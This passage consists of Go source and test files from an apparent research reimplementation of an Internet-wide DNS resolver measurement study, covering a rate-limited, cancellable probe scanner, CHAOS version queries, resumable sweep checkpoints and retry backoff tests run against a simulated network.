	return &rateLimiter{interval: time.Second / time.Duration(pps), clock: clock}
}

func (r *rateLimiter) wait() {
	if r.interval == 0 {
		return
	}
	r.mu.Lock()
	now := r.clock.Now()
	if r.next.Before(now) {
		r.next = now
	}
	sleep := r.next.Sub(now)
	r.next = r.next.Add(r.interval)
	r.mu.Unlock()
	// Sleep only when meaningfully ahead of schedule: timer resolution
	// is ~1ms, so sub-millisecond pacing is achieved by micro-bursts.
	if sleep > 2*time.Millisecond {
		r.clock.Sleep(sleep)
	}
}

// sendAll distributes jobs across worker goroutines. Each job sends one
// probe; the rate limiter is shared.
func (s *Scanner) sendAll(n int, send func(i int)) {
	workers := s.opts.Workers
	if n < workers {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			s.rate.wait()
			send(i)
		}
		return
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(next.Add(1)) - 1
				if i >= n {
					return
				}
				s.rate.wait()
				send(i)
			}
		}()
	}
	wg.Wait()
}

// streamBatch is how many targets a sender worker pulls from the shared
// generator per lock acquisition. 256 keeps the generator lock at well
// under 1% of each worker's time while bounding how far ahead of the
// others any worker can run.
const streamBatch = 256

// streamAll drives one probe per generator target across the worker pool
// without materializing the permutation (a full order-32 sweep would
// otherwise stage 16 GiB of targets). Workers pull batches from the
// generator under a shared lock; send receives each target plus a pooled
// scratch buffer for query assembly (reslice it, leave the grown buffer
// behind). Returns the number of targets sent.
//
// The set of probes sent is exactly the generator's permutation no matter
// how batches interleave, so scan results stay schedule-independent.
func (s *Scanner) streamAll(gen *lfsr.TargetGenerator, send func(u uint32, scratch *[]byte)) uint64 {
	workers := s.opts.Workers
	if workers <= 1 {
		scratch := sweepBufPool.Get().(*[]byte)
		defer sweepBufPool.Put(scratch)
		var n uint64
		for {
			u, ok := gen.NextU32()
			if !ok {
				return n
			}
			s.rate.wait()
			send(u, scratch)
			n++
		}
	}
	var (
		genMu sync.Mutex
		total atomic.Uint64
		wg    sync.WaitGroup
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			scratch := sweepBufPool.Get().(*[]byte)
			defer sweepBufPool.Put(scratch)
			var batch [streamBatch]uint32
			for {
				genMu.Lock()
				n := gen.NextBatch(batch[:])
				genMu.Unlock()
				if n == 0 {
					return
				}
				total.Add(uint64(n))
				for _, u := range batch[:n] {
					s.rate.wait()
					send(u, scratch)
				}
			}
		}()
	}
	wg.Wait()
	return total.Load()
}

// sweepBufPool recycles probe assembly buffers. It lives at package scope
// so the pool carries warm buffers across scans instead of draining when
// each Sweep call returns.
var sweepBufPool = sync.Pool{New: func() any { b := make([]byte, 0, 128); return &b }}

// settle waits for late responses on asynchronous transports. A negative
// SettleDelay (synchronous transport) skips the wait.
func (s *Scanner) settle() {
	if s.opts.SettleDelay > 0 {
		s.opts.Clock.Sleep(s.opts.SettleDelay)
	}
}

// NoSettle is the SettleDelay value for synchronous transports.
const NoSettle = -1 * time.Millisecond

// netip4 abbreviates the address type in receiver callbacks.
type netip4 = netip.Addr

// addrU32 converts for the hot path.
func addrU32(a netip.Addr) uint32 { return lfsr.AddrToU32(a) }

// packQuery builds and packs a query, panicking only on programmer error
// (static names are always packable).
func packQuery(id uint16, name string, typ dnswire.Type, class dnswire.Class) []byte {
	q := dnswire.NewQuery(id, name, typ, class)
	wire, err := q.PackBytes()
	if err != nil {
		panic("scanner: unpackable query: " + err.Error())
	}
	return wire
}
