// Package scanner implements the measurement engine of §2.2 and §3.3: the
// Internet-wide UDP sweep that enumerates responding DNS resolvers (with
// LFSR-permuted targets and the hex-IP query-name encoding), the
// domain-set scans that probe every discovered resolver for the 155-name
// dataset (carrying a 25-bit resolver identifier split across transaction
// ID, UDP source port, and redundant 0x20 casing), and the CHAOS
// version-fingerprinting scan.
//
// The engine is transport-agnostic: the same code drives the in-memory
// world (millions of probes per second) and real UDP sockets through the
// loopback gateway.
//
// Every scan entrypoint has a context-aware variant (SweepContext,
// ScanDomainsContext, ...) that aborts between send batches, between
// retry rounds, and during settle waits. The ctx-less names are thin
// compatibility wrappers over those.
package scanner

import (
	"context"
	"errors"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
	"goingwild/internal/metrics"
	"goingwild/internal/wildnet"
)

// Transport is the packet interface the scanner drives. It is an alias
// of wildnet.Transport — the network layer owns the definition, so the
// scanner's view of a transport can never drift from the
// implementations (wildnet.MemTransport, wildnet.UDPTransport).
type Transport = wildnet.Transport

// bgCtx backs the ctx-less compatibility wrappers (Sweep, ScanDomains,
// ...). New code should call the Context variants with a real caller
// context instead.
//
//lint:allow ctxhygiene sole Background escape for the ctx-less compatibility wrappers
var bgCtx = context.Background()

// NoRetries is the Options.Retries value that disables retransmission
// rounds entirely (the zero value means "default", which is 1 round).
const NoRetries = -1

// Options tunes a scanner.
type Options struct {
	// RatePPS caps the probe rate in packets per second; 0 disables
	// rate limiting (useful against the in-memory transport).
	RatePPS int
	// Workers is the number of sender goroutines (default 8).
	Workers int
	// Shards splits batch scans into that many leapfrog shards running
	// concurrently: shard i of M owns every M-th slot of the target
	// permutation (lfsr.ShardedGenerator) or every M-th index of a target
	// list, with its own generator and retry state. Results are merged
	// into one collector and stay byte-identical to an unsharded run.
	// 0 or 1 means unsharded.
	Shards int
	// Retries is how many retransmission rounds cover unanswered
	// probes (packet loss, §5). The zero value defaults to 1;
	// NoRetries (or any negative value) disables retransmission.
	Retries int
	// SettleDelay is how long to wait for in-flight responses after a
	// send round on asynchronous transports. Default 50ms; a negative
	// value disables waiting entirely, which is correct for the
	// in-memory transport (it delivers responses synchronously inside
	// Send).
	SettleDelay time.Duration
	// Backoff is the adaptive delay between retransmission rounds
	// (exponential with deterministic seeded jitter, slept on Clock).
	// The zero value keeps the legacy behavior: rounds run back to back.
	Backoff BackoffConfig
	// RetryBudget caps the total number of retransmissions one scan
	// entrypoint may spend; retransmission lists are truncated in
	// deterministic target order when the budget binds. Zero means
	// unlimited.
	RetryBudget int
	// StageDeadline bounds one scan entrypoint's retry phase: once the
	// budget has elapsed on Clock, no further retry rounds start and the
	// scan returns its partial coverage. Zero means no deadline.
	StageDeadline time.Duration
	// SweepRetries adds retransmission rounds for sweep non-responders.
	// The default 0 keeps census semantics (exactly one probe per
	// target); fault profiles set 1–2 to ride over injected loss. Each
	// retry salts the anti-caching prefix, so the retransmission is a
	// new packet and redraws its loss fate.
	SweepRetries int
	// BasePort is the first of the ProbePortCount UDP source ports a
	// domain scan uses. Default 33000.
	BasePort uint16
	// Clock supplies time to the rate limiter and settle delays.
	// Default SystemClock; tests inject a fake to exercise pacing
	// deterministically.
	Clock Clock
	// Metrics, when set, receives the scanner's traffic accounting:
	// probes sent/received per entrypoint, retry rounds and budget
	// spend, settle waits, and rate-limiter stalls. Metrics are a pure
	// side channel — scan results never depend on them — and every
	// value except the Timing-class stall counter is deterministic
	// across runs and GOMAXPROCS. Nil disables instrumentation at zero
	// hot-path cost.
	Metrics *metrics.Registry
}

func (o *Options) fill() {
	if o.Workers <= 0 {
		o.Workers = 8
	}
	if o.Shards <= 0 {
		o.Shards = 1
	}
	if o.Retries == 0 {
		o.Retries = 1
	}
	if o.Retries < 0 {
		o.Retries = 0
	}
	if o.SettleDelay == 0 {
		o.SettleDelay = 50 * time.Millisecond
	}
	if o.RetryBudget < 0 {
		o.RetryBudget = 0
	}
	if o.SweepRetries < 0 {
		o.SweepRetries = 0
	}
	if o.BasePort == 0 {
		o.BasePort = 33000
	}
	if o.Clock == nil {
		o.Clock = SystemClock
	}
}

// Scanner drives probes over a transport.
type Scanner struct {
	tr   Transport
	opts Options
	rate *rateLimiter
	m    scanMetrics
}

// New builds a scanner.
func New(tr Transport, opts Options) *Scanner {
	opts.fill()
	s := &Scanner{tr: tr, opts: opts, rate: newRateLimiter(opts.RatePPS, opts.Clock), m: newScanMetrics(opts.Metrics)}
	s.rate.stalls = s.m.rateStalls
	return s
}

// ErrNoTransport is returned when the scanner was built with nil.
var ErrNoTransport = errors.New("scanner: nil transport")

// rateLimiter is a token bucket; rate 0 means unlimited.
type rateLimiter struct {
	interval time.Duration
	clock    Clock
	// stalls counts pacing sleeps (Timing class — how often the limiter
	// held a sender back depends on real elapsed time). Nil when
	// metrics are off.
	stalls *metrics.Counter
	mu     sync.Mutex
	next   time.Time
}

func newRateLimiter(pps int, clock Clock) *rateLimiter {
	if clock == nil {
		clock = SystemClock
	}
	if pps <= 0 {
		return &rateLimiter{clock: clock}
	}
	return &rateLimiter{interval: time.Second / time.Duration(pps), clock: clock}
}

func (r *rateLimiter) wait(ctx context.Context) {
	if r.interval == 0 {
		return
	}
	r.mu.Lock()
	now := r.clock.Now()
	if r.next.Before(now) {
		r.next = now
	}
	sleep := r.next.Sub(now)
	r.next = r.next.Add(r.interval)
	r.mu.Unlock()
	// Sleep only when meaningfully ahead of schedule: timer resolution
	// is ~1ms, so sub-millisecond pacing is achieved by micro-bursts.
	// A cancelled context cuts the pacing sleep short so a slow scan
	// does not outlive its deadline by one token.
	if sleep > 2*time.Millisecond {
		r.stalls.Inc()
		sleepCtx(ctx, r.clock, sleep)
	}
}

// sendAll distributes jobs across worker goroutines. Each job sends one
// probe; the rate limiter is shared. A cancelled context stops every
// worker at its next probe boundary; sendAll returns ctx.Err() in that
// case with an unspecified subset of the jobs sent.
//
// Cancellation is polled via ctx.Err() so a cancel() that fires inside a
// Send callback is observed at the very next probe — no watcher
// goroutine, no scheduling latency. The ctx-less wrappers pass a context
// whose Done() is nil, which skips the polling entirely and keeps the
// hot path exactly as fast as before contexts existed.
func (s *Scanner) sendAll(ctx context.Context, n int, send func(i int)) error {
	cancellable := ctx.Done() != nil
	if m := s.opts.Shards; m > 1 {
		// Sharded list scan: shard k owns indices k, k+M, k+2M, ... —
		// the list analogue of the leapfrog permutation split. Each
		// shard walks its slice in order, so per-shard send order is
		// deterministic and the union is exactly the list.
		workers := m
		if n < workers {
			workers = n
		}
		var wg sync.WaitGroup
		for k := 0; k < workers; k++ {
			wg.Add(1)
			go func(k int) {
				defer wg.Done()
				for i := k; i < n; i += m {
					if cancellable && ctx.Err() != nil {
						return
					}
					s.rate.wait(ctx)
					send(i)
				}
			}(k)
		}
		wg.Wait()
		return ctx.Err()
	}
	workers := s.opts.Workers
	if n < workers {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			if cancellable && ctx.Err() != nil {
				return ctx.Err()
			}
			s.rate.wait(ctx)
			send(i)
		}
		return ctx.Err()
	}
	var next atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				if cancellable && ctx.Err() != nil {
					return
				}
				i := int(next.Add(1)) - 1
				if i >= n {
					return
				}
				s.rate.wait(ctx)
				send(i)
			}
		}()
	}
	wg.Wait()
	return ctx.Err()
}

// streamBatch is how many targets a sender worker pulls from the shared
// generator per lock acquisition. 256 keeps the generator lock at well
// under 1% of each worker's time while bounding how far ahead of the
// others any worker can run.
const streamBatch = 256

// streamAll drives one probe per generator target across the worker pool
// without materializing the permutation (a full order-32 sweep would
// otherwise stage 16 GiB of targets). Workers pull batches from the
// generator under a shared lock; send receives each target plus a pooled
// scratch buffer for query assembly (reslice it, leave the grown buffer
// behind). Returns the number of targets sent.
//
// The set of probes sent is exactly the generator's permutation no matter
// how batches interleave, so scan results stay schedule-independent. A
// cancelled context stops each worker at its next batch boundary (at most
// one in-flight batch of streamBatch targets per worker completes), and
// streamAll returns the partial send count plus ctx.Err().
//
// Cancellation is polled via ctx.Err() once per batch — 1/256th of the
// probe rate, synchronous with cancel() — and skipped entirely for the
// non-cancellable contexts the ctx-less wrappers pass, preserving the
// zero-overhead hot path.
func (s *Scanner) streamAll(ctx context.Context, gen *lfsr.TargetGenerator, send func(u uint32, scratch *[]byte)) (uint64, error) {
	cancellable := ctx.Done() != nil
	workers := s.opts.Workers
	if workers <= 1 {
		return s.streamOne(ctx, gen, send)
	}
	var (
		genMu sync.Mutex
		total atomic.Uint64
		wg    sync.WaitGroup
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			scratch := sweepBufPool.Get().(*[]byte)
			defer sweepBufPool.Put(scratch)
			var batch [streamBatch]uint32
			for {
				if cancellable && ctx.Err() != nil {
					return
				}
				genMu.Lock()
				n := gen.NextBatch(batch[:])
				genMu.Unlock()
				if n == 0 {
					return
				}
				total.Add(uint64(n))
				for _, u := range batch[:n] {
					s.rate.wait(ctx)
					send(u, scratch)
				}
			}
		}()
	}
	wg.Wait()
	return total.Load(), ctx.Err()
}

// streamOne is streamAll's single-goroutine loop: one sender draining one
// generator in permutation order. Shard workers call it directly (each
// owns a private sharded generator, so no lock and no pool), which keeps
// a shard's send order deterministic.
func (s *Scanner) streamOne(ctx context.Context, gen *lfsr.TargetGenerator, send func(u uint32, scratch *[]byte)) (uint64, error) {
	cancellable := ctx.Done() != nil
	scratch := sweepBufPool.Get().(*[]byte)
	defer sweepBufPool.Put(scratch)
	var n uint64
	for {
		if cancellable && n%streamBatch == 0 && ctx.Err() != nil {
			return n, ctx.Err()
		}
		u, ok := gen.NextU32()
		if !ok {
			return n, ctx.Err()
		}
		s.rate.wait(ctx)
		send(u, scratch)
		n++
	}
}

// sweepBufPool recycles probe assembly buffers. It lives at package scope
// so the pool carries warm buffers across scans instead of draining when
// each Sweep call returns.
var sweepBufPool = sync.Pool{New: func() any { b := make([]byte, 0, 128); return &b }}

// settle waits for late responses on asynchronous transports. A negative
// SettleDelay (synchronous transport) skips the wait. A dead context
// skips or cuts short the wait and is reported as ctx.Err().
func (s *Scanner) settle(ctx context.Context) error {
	if s.opts.SettleDelay > 0 {
		s.m.settleWaits.Inc()
		return sleepCtx(ctx, s.opts.Clock, s.opts.SettleDelay)
	}
	return ctx.Err()
}

// NoSettle is the SettleDelay value for synchronous transports.
const NoSettle = -1 * time.Millisecond

// netip4 abbreviates the address type in receiver callbacks.
type netip4 = netip.Addr

// addrU32 converts for the hot path.
//
//lint:hotpath per-response address conversion
func addrU32(a netip.Addr) uint32 { return lfsr.AddrToU32(a) }

// packQuery builds and packs a query, panicking only on programmer error
// (static names are always packable).
func packQuery(id uint16, name string, typ dnswire.Type, class dnswire.Class) []byte {
	q := dnswire.NewQuery(id, name, typ, class)
	wire, err := q.PackBytes()
	if err != nil {
		panic("scanner: unpackable query: " + err.Error())
	}
	return wire
}
