package scanner

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"reflect"
	"testing"

	"goingwild/internal/wildnet"
)

// resumeWorld builds a world under the named chaos profile plus a fresh
// transport; resumable-sweep tests need a fresh transport per run so
// receiver wiring and fault counters start clean.
func resumeWorld(t *testing.T, order uint, profile string) (*wildnet.World, *wildnet.MemTransport) {
	t.Helper()
	cfg := wildnet.DefaultConfig(order)
	cfg.Faults = wildnet.MustChaosProfile(profile)
	w, err := wildnet.NewWorld(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return w, wildnet.NewMemTransport(w, wildnet.VantagePrimary)
}

func resumeOpts(shards int) Options {
	return Options{Workers: 4, Shards: shards, SettleDelay: NoSettle, SweepRetries: 2}
}

// copyCheckpoint deep-copies through JSON, which doubles as a check
// that every checkpoint a sweep emits survives serialization.
func copyCheckpoint(t *testing.T, ck *SweepCheckpoint) *SweepCheckpoint {
	t.Helper()
	blob, err := json.Marshal(ck)
	if err != nil {
		t.Fatalf("checkpoint does not serialize: %v", err)
	}
	out := new(SweepCheckpoint)
	if err := json.Unmarshal(blob, out); err != nil {
		t.Fatalf("checkpoint does not round-trip: %v", err)
	}
	return out
}

// TestSweepResumeMatchesSweep pins the core equivalence: an
// uninterrupted checkpointing sweep produces exactly the result of the
// plain SweepContext path, across fault profiles and shard counts.
func TestSweepResumeMatchesSweep(t *testing.T) {
	const order = 14
	for _, profile := range []string{"clean", "hostile"} {
		for _, shards := range []int{1, 4} {
			t.Run(fmt.Sprintf("%s/shards=%d", profile, shards), func(t *testing.T) {
				w, tr := resumeWorld(t, order, profile)
				defer tr.Close()
				want, err := New(tr, resumeOpts(shards)).SweepContext(context.Background(), order, 99, w.ScanBlacklist())
				if err != nil {
					t.Fatal(err)
				}
				tr2 := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
				defer tr2.Close()
				saves := 0
				rc := &ResumeControl{
					EveryBatches: 2,
					Save:         func(ck *SweepCheckpoint) error { saves++; return nil },
				}
				got, err := New(tr2, resumeOpts(shards)).SweepResumeContext(context.Background(), order, 99, w.ScanBlacklist(), rc)
				if err != nil {
					t.Fatal(err)
				}
				if saves == 0 {
					t.Fatal("sweep never checkpointed")
				}
				if !reflect.DeepEqual(got, want) {
					t.Errorf("resumable sweep diverged: probed %d vs %d, responders %d vs %d",
						got.Probed, want.Probed, got.Total(), want.Total())
				}
			})
		}
	}
}

// TestSweepResumeFromAnyCheckpoint captures every checkpoint an
// uninterrupted run emits, then restarts a brand-new scanner and
// transport from each one. Whatever instant the crash hit — mid-census,
// mid-retry-round, or on a round boundary — the resumed run must land
// on the identical result.
func TestSweepResumeFromAnyCheckpoint(t *testing.T) {
	const order = 14
	const shards = 2
	w, _ := resumeWorld(t, order, "hostile")
	bl := w.ScanBlacklist()

	run := func(prev *SweepCheckpoint) (*SweepResult, []*SweepCheckpoint, error) {
		tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
		defer tr.Close()
		var cks []*SweepCheckpoint
		rc := &ResumeControl{
			Prev:         prev,
			EveryBatches: 2,
			Save: func(ck *SweepCheckpoint) error {
				cks = append(cks, copyCheckpoint(t, ck))
				return nil
			},
		}
		res, err := New(tr, resumeOpts(shards)).SweepResumeContext(context.Background(), order, 7, bl, rc)
		return res, cks, err
	}

	want, cks, err := run(nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(cks) < 4 {
		t.Fatalf("only %d checkpoints captured; too few to exercise resume", len(cks))
	}
	sawMidRound := false
	for k, ck := range cks {
		if len(ck.Workers) > 0 && !ck.Done {
			sawMidRound = true
		}
		got, _, err := run(ck)
		if err != nil {
			t.Fatalf("resume from checkpoint %d (round %d, done=%v): %v", k, ck.Round, ck.Done, err)
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("resume from checkpoint %d (round %d, %d workers, done=%v) diverged: probed %d vs %d, responders %d vs %d",
				k, ck.Round, len(ck.Workers), ck.Done, got.Probed, want.Probed, got.Total(), want.Total())
		}
	}
	if !sawMidRound {
		t.Error("no mid-round checkpoint captured; rendezvous cadence broken")
	}
}

// TestSweepResumeStops pins the orderly-stop contract: when Save
// reports a stop after persisting, the sweep unwinds with that error,
// and resuming from the last saved checkpoint completes identically.
func TestSweepResumeStops(t *testing.T) {
	const order = 14
	w, _ := resumeWorld(t, order, "lossy")
	bl := w.ScanBlacklist()
	errStop := errors.New("stop requested")

	full := func() *SweepResult {
		tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
		defer tr.Close()
		res, err := New(tr, resumeOpts(1)).SweepContext(context.Background(), order, 3, bl)
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	want := full()

	tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	defer tr.Close()
	var last *SweepCheckpoint
	saves := 0
	rc := &ResumeControl{
		EveryBatches: 2,
		Save: func(ck *SweepCheckpoint) error {
			last = copyCheckpoint(t, ck)
			saves++
			if saves == 3 {
				return errStop
			}
			return nil
		},
	}
	if _, err := New(tr, resumeOpts(1)).SweepResumeContext(context.Background(), order, 3, bl, rc); !errors.Is(err, errStop) {
		t.Fatalf("interrupted sweep returned %v, want the stop error", err)
	}

	tr2 := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	defer tr2.Close()
	got, err := New(tr2, resumeOpts(1)).SweepResumeContext(context.Background(), order, 3, bl,
		&ResumeControl{Prev: last, EveryBatches: 2, Save: func(*SweepCheckpoint) error { return nil }})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("stop+resume diverged from uninterrupted run: probed %d vs %d, responders %d vs %d",
			got.Probed, want.Probed, got.Total(), want.Total())
	}
}

// TestSweepResumeBudgeted covers the bounded-retransmission path: the
// per-shard streaming budget countdown must pick the same targets the
// materialize-first path picks.
func TestSweepResumeBudgeted(t *testing.T) {
	const order = 14
	w, tr := resumeWorld(t, order, "hostile")
	defer tr.Close()
	bl := w.ScanBlacklist()
	opts := resumeOpts(2)
	opts.RetryBudget = 300
	want, err := New(tr, opts).SweepContext(context.Background(), order, 11, bl)
	if err != nil {
		t.Fatal(err)
	}
	tr2 := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	defer tr2.Close()
	got, err := New(tr2, opts).SweepResumeContext(context.Background(), order, 11, bl,
		&ResumeControl{EveryBatches: 2, Save: func(*SweepCheckpoint) error { return nil }})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("budgeted resumable sweep diverged: probed %d vs %d, responders %d vs %d",
			got.Probed, want.Probed, got.Total(), want.Total())
	}
}

// TestSweepResumeRejectsMismatch guards against resuming the wrong scan.
func TestSweepResumeRejectsMismatch(t *testing.T) {
	w, tr := resumeWorld(t, 14, "clean")
	defer tr.Close()
	prev := &SweepCheckpoint{Order: 14, Seed: 5, Shards: 2}
	_, err := New(tr, resumeOpts(1)).SweepResumeContext(context.Background(), 14, 5, w.ScanBlacklist(),
		&ResumeControl{Prev: prev, Save: func(*SweepCheckpoint) error { return nil }})
	if err == nil {
		t.Fatal("shard-count mismatch accepted")
	}
}
