package scanner

import (
	"context"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
)

// ChaosAnswer is one resolver's pair of CHAOS version responses (§2.4).
type ChaosAnswer struct {
	// BindText and ServerText are the TXT payloads of version.bind and
	// version.server; empty when the query errored or went unanswered.
	BindText   string
	ServerText string
	// BindRCode / ServerRCode are the response codes (NoError with
	// empty text means an empty version).
	BindRCode   dnswire.RCode
	ServerRCode dnswire.RCode
	// BindAnswered / ServerAnswered distinguish silence from answers.
	BindAnswered   bool
	ServerAnswered bool
}

// ChaosResult is one CHAOS scan over a resolver population.
type ChaosResult struct {
	Resolvers []uint32
	Answers   []ChaosAnswer
}

// Responded counts resolvers that answered at least one version query.
func (c *ChaosResult) Responded() int {
	n := 0
	for i := range c.Answers {
		if c.Answers[i].BindAnswered || c.Answers[i].ServerAnswered {
			n++
		}
	}
	return n
}

// ScanChaos issues version.bind and version.server CHAOS TXT queries to
// every resolver; it is the ctx-less wrapper over ScanChaosContext.
func (s *Scanner) ScanChaos(resolvers []uint32) (*ChaosResult, error) {
	return s.ScanChaosContext(bgCtx, resolvers)
}

// ScanChaosContext issues version.bind and version.server CHAOS TXT
// queries to every resolver. The probe identifier rides in the
// transaction ID (CHAOS scans target an enumerated list, so 16+1 bits
// suffice: the queried name distinguishes the two probes per resolver).
// Cancellation checkpoints sit between transaction-ID chunks; a
// cancelled scan returns the partially filled result with ctx.Err().
func (s *Scanner) ScanChaosContext(ctx context.Context, resolvers []uint32) (*ChaosResult, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	res := &ChaosResult{
		Resolvers: resolvers,
		Answers:   make([]ChaosAnswer, len(resolvers)),
	}
	// Answer slots are addressed by resolver index, so a striped lock set
	// replaces the single scan-wide mutex.
	var locks stripedMutex
	for pass, qname := range []string{"version.bind", "version.server"} {
		isBind := pass == 0
		// Identify resolvers by transaction id chunks of 64k.
		chunks := (len(resolvers) + 0xFFFF) / 0x10000
		for chunk := 0; chunk < chunks; chunk++ {
			if err := ctx.Err(); err != nil {
				return res, err
			}
			lo := chunk * 0x10000
			hi := lo + 0x10000
			if hi > len(resolvers) {
				hi = len(resolvers)
			}
			batch := resolvers[lo:hi]
			s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
				v := dnswire.GetView()
				defer dnswire.PutView(v)
				if err := v.Reset(payload); err != nil || !v.QR() {
					return
				}
				idx := lo + int(v.ID())
				if idx >= hi {
					return
				}
				s.m.chaosRecv.Inc()
				text := string(v.AppendAnswerTXT(nil))
				mu := locks.of(uint32(idx))
				mu.Lock()
				a := &res.Answers[idx]
				if isBind {
					a.BindAnswered = true
					a.BindRCode = v.RCode()
					a.BindText = text
				} else {
					a.ServerAnswered = true
					a.ServerRCode = v.RCode()
					a.ServerText = text
				}
				mu.Unlock()
			})
			// The version census sends once per (resolver, name): the
			// shared retry helper runs with zero retry rounds so Table 3
			// keeps its single-probe response rates, but the loop shape
			// (and any future retry policy) lives in one place.
			s.retryRounds(ctx, 0, len(batch),
				func(i, _ int) {
					wire := packQuery(uint16(i), qname, dnswire.TypeTXT, dnswire.ClassCH)
					s.m.chaosSent.Inc()
					//lint:allow errdrop CHAOS-probe send failures are modeled packet loss
					s.tr.Send(ctx, lfsr.U32ToAddr(batch[i]), 53, s.opts.BasePort, wire)
				},
				func(i int) bool {
					mu := locks.of(uint32(lo + i))
					mu.Lock()
					a := res.Answers[lo+i]
					mu.Unlock()
					if isBind {
						return !a.BindAnswered
					}
					return !a.ServerAnswered
				})
		}
	}
	return res, ctx.Err()
}
