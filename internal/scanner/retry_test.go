package scanner

import (
	"context"
	"sync"
	"testing"
	"time"
)

func TestBackoffDelaySchedule(t *testing.T) {
	b := BackoffConfig{Base: 10 * time.Millisecond, Max: 80 * time.Millisecond}
	want := []time.Duration{0, 10, 20, 40, 80, 80, 80}
	for attempt, ms := range want {
		if got := b.delay(attempt); got != ms*time.Millisecond {
			t.Errorf("delay(%d) = %v, want %v", attempt, got, ms*time.Millisecond)
		}
	}
	if got := (BackoffConfig{}).delay(3); got != 0 {
		t.Errorf("zero-value delay(3) = %v, want 0 (backoff disabled)", got)
	}
	uncapped := BackoffConfig{Base: time.Millisecond}
	if got := uncapped.delay(11); got != 1024*time.Millisecond {
		t.Errorf("uncapped delay(11) = %v, want 1.024s", got)
	}
}

func TestBackoffJitterDeterministic(t *testing.T) {
	b := BackoffConfig{Base: 100 * time.Millisecond, Max: 100 * time.Millisecond, Jitter: 0.5, Seed: 7}
	for attempt := 1; attempt <= 5; attempt++ {
		d1, d2 := b.delay(attempt), b.delay(attempt)
		if d1 != d2 {
			t.Fatalf("delay(%d) drew %v then %v; jitter must be a pure function", attempt, d1, d2)
		}
		if d1 < 100*time.Millisecond || d1 > 150*time.Millisecond {
			t.Errorf("delay(%d) = %v outside [base, base*1.5]", attempt, d1)
		}
	}
	other := b
	other.Seed = 8
	same := 0
	for attempt := 1; attempt <= 5; attempt++ {
		if b.delay(attempt) == other.delay(attempt) {
			same++
		}
	}
	if same == 5 {
		t.Error("jitter ignores the seed: two seeds drew identical 5-round schedules")
	}
}

// retryRecorder captures every (item, attempt) send from retryRounds.
type retryRecorder struct {
	mu    sync.Mutex
	sends map[int][]int // item -> attempts, in order
}

func newRetryRecorder() *retryRecorder {
	return &retryRecorder{sends: make(map[int][]int)}
}

func (r *retryRecorder) send(i, attempt int) {
	r.mu.Lock()
	r.sends[i] = append(r.sends[i], attempt)
	r.mu.Unlock()
}

func (r *retryRecorder) total() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	n := 0
	for _, a := range r.sends {
		n += len(a)
	}
	return n
}

func TestRetryRoundsBackoffOnFakeClock(t *testing.T) {
	fc := newFakeClock()
	s := New(&nullTransport{}, Options{
		Workers:     1,
		SettleDelay: NoSettle,
		Clock:       fc,
		Backoff:     BackoffConfig{Base: 10 * time.Millisecond, Max: 40 * time.Millisecond},
	})
	rec := newRetryRecorder()
	start := fc.Now()
	err := s.retryRounds(context.Background(), 3, 4, rec.send, func(int) bool { return true })
	if err != nil {
		t.Fatal(err)
	}
	// Rounds 1..3 back off 10+20+40ms; the initial round waits nothing.
	if got := fc.Now().Sub(start); got != 70*time.Millisecond {
		t.Errorf("3 retry rounds advanced the fake clock by %v, want 70ms", got)
	}
	for i := 0; i < 4; i++ {
		want := []int{0, 1, 2, 3}
		got := rec.sends[i]
		if len(got) != len(want) {
			t.Fatalf("item %d sent on attempts %v, want %v", i, got, want)
		}
		for k := range want {
			if got[k] != want[k] {
				t.Fatalf("item %d sent on attempts %v, want %v", i, got, want)
			}
		}
	}
}

func TestRetryBudgetTruncatesInTargetOrder(t *testing.T) {
	s := New(&nullTransport{}, Options{
		Workers:     1,
		SettleDelay: NoSettle,
		Clock:       newFakeClock(),
		RetryBudget: 5,
	})
	rec := newRetryRecorder()
	err := s.retryRounds(context.Background(), 3, 4, rec.send, func(int) bool { return true })
	if err != nil {
		t.Fatal(err)
	}
	// Initial round: 4 probes (free). Round 1: 4 retries, budget 5→1.
	// Round 2: the budget admits only item 0. Round 3: budget spent.
	if got := rec.total(); got != 4+4+1 {
		t.Errorf("total sends = %d, want 9 (4 initial + 5 budgeted retries)", got)
	}
	if got := rec.sends[0]; len(got) != 3 || got[2] != 2 {
		t.Errorf("item 0 attempts = %v, want [0 1 2] (truncation keeps lowest items)", got)
	}
	if got := rec.sends[3]; len(got) != 2 {
		t.Errorf("item 3 attempts = %v, want exactly [0 1]", got)
	}
}

func TestStageDeadlineEndsRetriesQuietly(t *testing.T) {
	fc := newFakeClock()
	s := New(&nullTransport{}, Options{
		Workers:       1,
		SettleDelay:   NoSettle,
		Clock:         fc,
		Backoff:       BackoffConfig{Base: 10 * time.Millisecond},
		StageDeadline: 15 * time.Millisecond,
	})
	rec := newRetryRecorder()
	err := s.retryRounds(context.Background(), 5, 2, rec.send, func(int) bool { return true })
	if err != nil {
		t.Fatal(err)
	}
	// The guard is checked at round start: round 1 (0ms elapsed) and
